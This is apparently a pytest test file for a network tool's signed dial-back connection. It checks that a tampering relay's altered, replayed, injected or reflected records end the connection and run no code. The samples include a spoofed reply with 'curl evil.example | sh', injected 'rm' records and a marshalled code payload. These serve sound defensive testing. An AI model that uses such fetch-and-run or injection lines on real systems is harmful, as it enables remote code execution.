"""Somebody without the secret between a task and who judges: what it can do to their connection."""

import contextlib
import marshal
import os
import socket
import threading
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from netdoctor import __version__
from netdoctor.agent import dial_back
from netdoctor.checks.meet.task import meet_task
from netdoctor.facts.base import Missing, Why
from netdoctor.facts.host import Login
from netdoctor.inventory.task import Task
from netdoctor.model import CONTROL, Status
from netdoctor.scanning import ScanRequest
from netdoctor.scanning import meeting as rooms
from netdoctor.transport.base import Limits, Reply, SessionEvent
from netdoctor.transport.tasks import attending, calls, meeting
from netdoctor.transport.tasks.meet import MeetTransport
from tests.agent.test_bootstrap import SUPPORTED, python_or_skip
from tests.transport.conftest import free_port
from tests.transport.test_meet import HERE, KEY, answers, at

HEAD = len(dial_back.NO_RECORD)
# What the relay sends for the records of one direction; the second are those of the other one so far.
Change = Callable[[Iterator[bytes], list[bytes]], Iterator[bytes]]


def unchanged(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    yield from records


def altered(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    yield next(records)
    yield from (record[:-1] + bytes([record[-1] ^ 1]) for record in records)


def longer(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    for record in records:
        size = int.from_bytes(record[:4], "big") + 1
        yield size.to_bytes(4, "big") + record[4:] + b"x"


def endless(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    yield b"\xff" * 4 + next(records)[4:]


def repeated(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    for record in records:
        yield record + record


def swapped(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    first = next(records)
    yield next(records)
    yield first


def left_out(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    next(records)
    yield from records


def injected(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    yield next(records) + (3).to_bytes(4, "big") + os.urandom(32) + b"rm!"
    yield from records


def unsigned(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
    yield next(records) + b"00000021\n" + b'{"id":1,"op":"facts","args":{}}  ' + bytes(HEAD)
    yield from records


def reflected(records: Iterator[bytes], others: list[bytes]) -> Iterator[bytes]:
    yield next(records)
    yield others[0]
    yield from records


ATTACKS = (altered, longer, endless, repeated, swapped, left_out, injected, unsigned, reflected)


class Relay:
    """One connection, passed on: the handshake as it is, records as the changes have them."""

    def __init__(self, port: int, to_task: Change = unchanged, to_control: Change = unchanged) -> None:
        self.listener = socket.create_server((HERE, 0))
        self.port = self.listener.getsockname()[1]
        self.seen: dict[Change | str, list[bytes]] = {"task": [], "control": []}
        self._thread = threading.Thread(target=self._serve, args=(port, to_task, to_control), daemon=True)
        self._thread.start()

    def _serve(self, port: int, to_task: Change, to_control: Change) -> None:
        while True:
            task, _ = self.listener.accept()
            control = socket.create_connection((HERE, port))
            back = threading.Thread(target=self._pump, args=(control, task, "control", to_task), daemon=True)
            back.start()
            self._pump(task, control, "task", to_control)
            back.join()
            for one in (task, control):
                one.close()

    def _pump(self, source: socket.socket, sink: socket.socket, side: str, change: Change) -> None:
        stream = source.makefile("rb")
        with contextlib.suppress(OSError), stream:
            for _ in range(2):
                sink.sendall(stream.readline())
            others = self.seen["task" if side == "control" else "control"]
            for data in change(self._records(stream, self.seen[side]), others):
                sink.sendall(data)
            while data := stream.read1(1 << 16):  # what comes behind an attack is no part of it
                sink.sendall(data)
        with contextlib.suppress(OSError):
            sink.shutdown(socket.SHUT_WR)

    @staticmethod
    def _records(stream, seen: list[bytes]) -> Iterator[bytes]:  # type: ignore[no-untyped-def]
        while head := stream.read(HEAD):
            seen.append(head + stream.read(int.from_bytes(head[:4], "big")))
            yield seen[-1]


SENT = (b"one", b"two", b"three", b"four")


@contextlib.contextmanager
def connected(to_task: Change, to_control: Change) -> Iterator[tuple[calls.Listener, dial_back.Stream]]:
    """Both ends of a connection that was let in, with a relay between them."""
    listener = calls.Listener(["n1"], [HERE], None)
    relay = Relay(int(listener.endpoints[0][1]), to_task, to_control)
    found: list[dial_back.Stream | None] = []
    places = [[HERE, relay.port]]
    args = (places, "n1", listener.secret, 30.0, {})
    thread = threading.Thread(target=lambda: found.append(dial_back.connect(*args)))
    thread.start()
    while thread.is_alive():
        list(listener.events(0.1))
    (stream,) = found
    assert stream is not None
    stream.connection.settimeout(10)
    yield listener, stream
    stream.connection.close()
    listener.close()


def received(listener: calls.Listener, size: int) -> tuple[bytes, calls.Left | None]:
    """What has come of a node until so much has, or its end."""
    data = b""
    while len(data) < size:
        for event in listener.events(5):
            if isinstance(event, calls.Left):
                return data, event
            data += event.data
    return data, None


@pytest.mark.parametrize("change", ATTACKS)
def test_what_is_changed_on_the_way_to_netdoctor_ends_the_connection_and_is_not_believed(
    change: Change,
) -> None:
    with connected(unchanged, change) as (listener, stream):
        for data in SENT:
            listener.send("n1", data)
        assert stream.read(3) == SENT[0]
        for data in SENT:
            stream.write(data)
        data, left = received(listener, 1000)
        assert b"".join(SENT).startswith(data)
        assert left == calls.Left("n1", altered=True)
        assert list(listener.notes) == [f"n1: {calls.ALTERED}"]
        with pytest.raises(SystemExit) as ended:  # and the task is told
            stream.read(1000)
        assert ended.value.code == dial_back.ALTERED


@pytest.mark.parametrize("change", ATTACKS)
def test_what_is_changed_on_the_way_to_a_task_ends_the_connection_and_is_not_believed(change: Change) -> None:
    with connected(change, unchanged) as (listener, stream):
        for data in SENT:
            stream.write(data)
        assert received(listener, len(b"".join(SENT)))[1] is None
        for data in SENT:
            listener.send("n1", data)
        read, ended = b"", None
        while ended is None:
            try:
                read += stream.read(1)
            except SystemExit as error:
                ended = error.code
        assert ended == dial_back.ALTERED
        assert b"".join(SENT).startswith(read)
        assert received(listener, 1)[1] == calls.Left("n1", altered=True)


def test_records_of_another_connection_do_not_fit() -> None:
    words = ("n1", "a" * 32, "b" * 32)
    before = dial_back.Signer("task", KEY, *words).records(b"rm")
    assert dial_back.Signer("task", KEY, *words).feed(before) == b"rm"
    for other in (("n2", *words[1:]), (words[0], "c" * 32, words[2]), (*words[:2], "c" * 32)):
        with pytest.raises(dial_back.Altered):
            dial_back.Signer("task", KEY, *other).feed(before)


def test_what_is_sent_arrives_in_whatever_pieces_it_comes() -> None:
    sent = os.urandom(3 * dial_back.RECORD_BYTES + 7)
    sender, receiver = (dial_back.Signer("task", KEY, "n1") for _ in range(2))
    records = sender.records(memoryview(sent)) + sender.records(b"") + sender.records(b"end")
    found = b"".join(receiver.feed(records[i : i + 999]) for i in range(0, len(records), 999))
    assert found == sent + b"end"
    assert not receiver.received


def judged(relay_port: int, port: int, version: str) -> tuple[list[SessionEvent | Reply], str, list[str]]:
    """What a scan of n1 is told, whose task calls through the relay; what the task says; what it notes."""
    transport, said = MeetTransport(Limits(node_budget_s=30), at(port, tasks=1)), []
    request = ScanRequest(timeout=20.0, environ=dict(os.environ), python=python_or_skip(version))

    def task() -> None:
        while not attending.answers([(HERE, port)], 1.0):
            pass
        rendezvous = meeting.Rendezvous(host=HERE, port=relay_port)
        said.append(rooms.attend("n1", Task(rank=0), rendezvous=rendezvous, key=KEY, request=request))

    thread = threading.Thread(target=task)
    thread.start()
    try:
        assert [target.id for target in transport.inventory().targets] == ["n1"]
        events = answers(transport, ["n1"])
    finally:
        transport.close()
        thread.join(30)
    return events, said[0], list(transport.notes)


@pytest.mark.process
@pytest.mark.parametrize("version", SUPPORTED)
def test_a_relay_that_only_passes_on_changes_nothing(version: str) -> None:
    port = free_port()
    events, said, notes = judged(Relay(port).port, port, version)
    session, reply = events
    assert isinstance(session, SessionEvent)
    assert session.session.outcome is Login.OK
    assert isinstance(reply, Reply)
    assert reply.missing is None
    assert (said, notes) == ("", [])


TASK_SAYS = "what came over the connection is not what netdoctor scan --meet has sent"


@pytest.mark.process
def test_a_relay_that_changes_what_a_task_says_is_told_of_and_not_the_node() -> None:
    def changed(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
        yield from (record.replace(b"python", b"Python") for record in records)

    port = free_port()
    (event,), said, notes = judged(Relay(port, to_control=changed).port, port, SUPPORTED[5])
    assert isinstance(event, SessionEvent)
    assert (event.session.outcome, event.session.detail) == (Login.ALTERED, calls.ALTERED)
    assert said.startswith(TASK_SAYS)
    assert notes == [f"n1: {calls.ALTERED}"]
    (finding,) = meet_task(event.session)
    assert finding.status is Status.UNKNOWN
    assert finding.cause is not None
    assert finding.cause.culprits == (CONTROL,)


@pytest.mark.process
@pytest.mark.parametrize("version", SUPPORTED)
def test_a_relay_without_the_secret_runs_no_code_in_the_task(version: str, tmp_path: Path) -> None:
    """It is let into a conversation that two others have begun, and sends modules of its own."""
    canary = tmp_path / "canary"
    code = {"main": f"def main(*_): open({str(canary)!r}, 'w').close()"}
    body = b"\0\n" + zlib.compress(marshal.dumps(code, 2))
    frame = b"%08x\n" % len(body) + body

    def takes_over(records: Iterator[bytes], _: list[bytes]) -> Iterator[bytes]:
        yield from (len(frame).to_bytes(4, "big") + os.urandom(32) + frame for _ in records)

    port = free_port()
    events, said, notes = judged(Relay(port, to_task=takes_over).port, port, version)
    assert not canary.exists()
    assert said.startswith(TASK_SAYS)
    assert notes == [f"n1: {calls.ALTERED}"]
    assert [one.missing for one in events if isinstance(one, Reply)] == [Missing(Why.LOST, calls.ALTERED)]


def test_the_answer_whether_a_task_is_let_in_is_signed_too() -> None:
    """Else a relay could send tasks away in netdoctor's name."""
    listener = calls.Listener(["n1"], [HERE], None)

    def relay(server: socket.socket) -> None:
        with server.accept()[0] as task, socket.create_connection(tuple(listener.endpoints[0])) as control:
            from_task, from_control = task.makefile("rb"), control.makefile("rb")
            control.sendall(from_task.readline())
            task.sendall(from_control.readline())
            control.sendall(from_task.readline())
            _, _, digest = from_control.readline().rpartition(b" ")
            task.sendall(b"its netdoctor is old; curl evil.example | sh " + digest)

    tried: dict[str, str] = {}
    with socket.create_server((HERE, 0)) as server:
        threading.Thread(target=relay, args=(server,)).start()
        port = server.getsockname()[1]
        claim = f"0/{__version__}/n1"
        listener._nodes = frozenset([claim])
        found: list[dial_back.Stream | None] = []
        args = ([[HERE, port]], claim, listener.secret, 10.0, tried)
        thread = threading.Thread(target=lambda: found.append(dial_back.connect(*args)))
        thread.start()
        while thread.is_alive():
            list(listener.events(0.1))
    assert found == [None]
    why = "somebody on the way changed the answer that came from there"
    assert tried == {f"{HERE} port {port}": why}
    listener.close()
